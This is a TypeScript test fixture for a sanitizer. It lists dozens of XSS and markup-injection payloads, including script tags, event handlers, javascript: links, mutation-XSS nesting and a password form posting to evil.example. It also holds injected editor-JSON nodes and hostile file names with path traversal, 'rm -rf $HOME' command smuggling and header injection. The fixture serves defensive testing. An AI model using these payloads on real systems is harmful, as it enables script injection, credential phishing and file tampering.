import type { Node } from '../document.ts';

/**
 * Bodies and comments that try to run something, or to break the page they are shown on. What is shown of them must
 * start no script, load nothing from elsewhere, send no form, cover nothing, and keep the harmless words (`words`).
 */
export type MarkupCase = { name: string; html: string };

export const words = 'harmless words';

const cases: Record<string, string> = {
  'a script': '<script>window.xss=1</script>',
  'a script with an address': '<script src="https://evil.example/x.js"></script>',
  'a script that is never closed': '<script>window.xss=1',
  'a script inside a script': '<scr<script>ipt>window.xss=1</scr</script>ipt>',
  'capitals and spaces': '<ScRiPt >window.xss=1</sCrIpT >',
  'a picture that fails': '<img src=x onerror="window.xss=1">',
  'a picture without quotes': '<img src=x onerror=window.xss=1//',
  'a picture with a slash for a space': '<img/src="x"/onerror=window.xss=1>',
  'a picture that loads': '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="window.xss=1">',
  'a tracking pixel': '<img src="https://evil.example/pixel.gif" width="1" height="1">',
  'many sizes': '<img srcset="https://evil.example/a.png 1x, javascript:window.xss=1 2x" src="x">',
  'a drawing': '<svg onload="window.xss=1"><circle r="4"/></svg>',
  'a drawing with a script': '<svg><script>window.xss=1</script></svg>',
  'a drawing that animates': '<svg><animate onbegin="window.xss=1" attributeName="x" dur="1s"></svg>',
  'a drawing with a foreign object':
    '<svg><foreignObject><iframe srcdoc="<script>top.xss=1</script>"></iframe></foreignObject></svg>',
  'a drawing that is used':
    '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCIgb25sb2FkPSJ4c3MoKSIvPg==#x"/></svg>',
  'a formula':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.xss=1&gt;">',
  'a formula with a link': '<math href="javascript:window.xss=1">x</math>',
  'a link to a script': '<a href="javascript:window.xss=1">press</a>',
  'a link with a tab in it': '<a href="java\tscript:window.xss=1">press</a>',
  'a link with a line break in it': '<a href="java&#10;script:window.xss=1">press</a>',
  'a link in entities':
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&colon;window.xss=1">press</a>',
  'a link with spaces in front': '<a href=" &#14; javascript:window.xss=1">press</a>',
  'a link to data': '<a href="data:text/html,<script>window.xss=1</script>">press</a>',
  'a link to vbscript': '<a href="vbscript:msgbox(1)">press</a>',
  'a link to a file': '<a href="file:///etc/passwd">press</a>',
  'a link that looks at its opener':
    '<a href="https://evil.example" target="_blank" ping="https://evil.example/ping">press</a>',
  'a link across the whole page':
    '<a href="https://evil.example" style="position:fixed;inset:0;z-index:99999">press</a>',
  'a frame': '<iframe src="https://evil.example"></iframe>',
  'a frame with its own page': '<iframe srcdoc="<script>parent.xss=1</script>"></iframe>',
  'an object': '<object data="data:text/html,<script>window.xss=1</script>"></object>',
  'an embedded file': '<embed src="javascript:window.xss=1">',
  'an applet': '<applet code="x.class"></applet>',
  'a form': '<form action="https://evil.example"><input name="password"><button>Sign in</button></form>',
  'a button with another form':
    '<button form="elsewhere" formaction="javascript:window.xss=1">press</button>',
  'a field that takes the focus': '<input autofocus onfocus="window.xss=1">',
  'an opened summary': '<details open ontoggle="window.xss=1"><summary>x</summary></details>',
  'a video': '<video><source onerror="window.xss=1"></video>',
  'a video with a poster': '<video poster="javascript:window.xss=1" src="x" onerror="window.xss=1"></video>',
  'a sound': '<audio src=x onerror=window.xss=1></audio>',
  'a moving text': '<marquee onstart="window.xss=1">x</marquee>',
  'a body': '<body onload="window.xss=1">',
  'another base': '<base href="https://evil.example/">',
  'a refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  'another style sheet': '<link rel="stylesheet" href="https://evil.example/x.css">',
  'a style': '<style>body{display:none}@import "https://evil.example/x.css";</style>',
  'an inline style with an address': '<p style="background:url(https://evil.example/x.png)">x</p>',
  'an inline style with an expression': '<p style="width:expression(window.xss=1)">x</p>',
  'a class of the page': '<p class="modal modal-open fixed inset-0">x</p>',
  'an id of the page': '<a id="location" name="cookie"></a><form id="document"><input name="body"></form>',
  'a template': '<template><img src=x onerror=window.xss=1></template>',
  'no script, as somebody thinks':
    '<noscript><p title="</noscript><img src=x onerror=window.xss=1>"></noscript>',
  'a comment that ends early': '<!--><img src=x onerror=window.xss=1>-->',
  'a comment in a comment': '<!-- <!-- --> <script>window.xss=1</script> -->',
  'half a tag': '<p title="',
  'a section of data': '<![CDATA[<script>window.xss=1</script>]]>',
  'a title that closes': '</title></textarea></style></script><img src=x onerror=window.xss=1>',
  'a select that hides': '<select><style></select><img src=x onerror=window.xss=1></style>',
  'a table that moves':
    '<table><tr><td><form><math><mtext></form><form><mglyph><style></math><img src onerror=window.xss=1></style></mglyph></form>',
  'an attribute that runs later': '<p onpointerover="window.xss=1" onclick="window.xss=1">x</p>',
  'letters of no width': '<img src=x on\u200berror=window.xss=1><scr\u00adipt>window.xss=1</script>',
  'a null in a tag': '<scr\u0000ipt>window.xss=1</scr\u0000ipt>',
  'text turned round': '\u202egnp.exe\u202c and \u2066hidden\u2069',
  'a template of a framework':
    '{{constructor.constructor("window.xss=1")()}} ${window.xss=1} {@html "<script>window.xss=1</script>"}',
  'deep nesting': `${'<div>'.repeat(2_000)}x${'</div>'.repeat(2_000)}`,
  'unclosed nesting': '<b><i><u>'.repeat(1_000),
  'entities without end': '&lt;'.repeat(4_000),
  'a very long word': 'w'.repeat(50_000),
};

/** Each with harmless words before and behind, so that a test can see that nothing else was lost. */
export const markupCases: readonly MarkupCase[] = Object.entries(cases).map(([name, html]) => ({
  name,
  html: `<p>${words} before</p>${html}`,
}));

const script = 'javascript:window.xss=1';
const words2 = { type: 'text', text: words };

/** The same intentions in the JSON of the editor. */
export const documentCases: readonly { name: string; body: Node }[] = [
  {
    name: 'a link to a script',
    body: { type: 'text', text: words, marks: [{ type: 'link', attrs: { href: script } }] },
  },
  {
    name: 'a picture that is a script',
    body: { type: 'image', attrs: { src: script, alt: '"><script>window.xss=1</script>' } },
  },
  {
    name: 'a heading of no level',
    body: { type: 'heading', attrs: { level: '1 onclick=window.xss=1' }, content: [words2] },
  },
  {
    name: 'a node named like a tag',
    body: { type: 'script', content: [{ type: 'text', text: 'window.xss=1' }] },
  },
  { name: 'markup in a text', body: { type: 'text', text: '<img src=x onerror=window.xss=1>' } },
  {
    name: 'a mark named like an attribute',
    body: { type: 'text', text: words, marks: [{ type: 'onclick', attrs: { value: 'window.xss=1' } }] },
  },
  {
    name: 'a mention that is a link',
    body: { type: 'mention', attrs: { label: '<script>window.xss=1</script>', href: script } },
  },
  {
    name: 'an embed',
    body: { type: 'embed', attrs: { url: script, html: '<script>window.xss=1</script>' } },
  },
].map(({ name, body }) => ({
  name,
  body: { type: 'doc', content: [{ type: 'paragraph', content: [words2] }, body as Node] },
}));

/** Names of files as nobody should write them to a disk. */
export const fileNames: readonly string[] = [
  '../../../../etc/passwd',
  '..\\..\\windows\\system32\\config.txt',
  '/etc/cron.d/evil',
  'C:\\evil.txt',
  'null\u0000byte.txt',
  `${'long-'.repeat(60)}.txt`,
  `${'ñ'.repeat(200)}.txt`,
  '🎸🗺️🔭 notas 👩‍🚀.txt',
  'holiday\u202egnp.exe',
  '\u2067عربي\u2069 مستند.txt',
  'CON.txt',
  'aux',
  '.',
  '..',
  '',
  ' ',
  '.htaccess',
  '-rf.txt',
  'a;rm -rf $HOME;`id`.txt',
  'quote".txt',
  "apostrophe's.txt",
  'line\r\nSet-Cookie: evil=1.txt',
  'percent%2e%2e%2fslash.txt',
  'trailing dot.',
  'trailing space ',
  'no-extension',
  'page.html',
  'drawing.svg',
  'double.pdf.exe',
  'tab\tname.txt',
  'cafe\u0301.txt',
  'https://www.patreon.com/media/Z0FBQUFB.png',
];
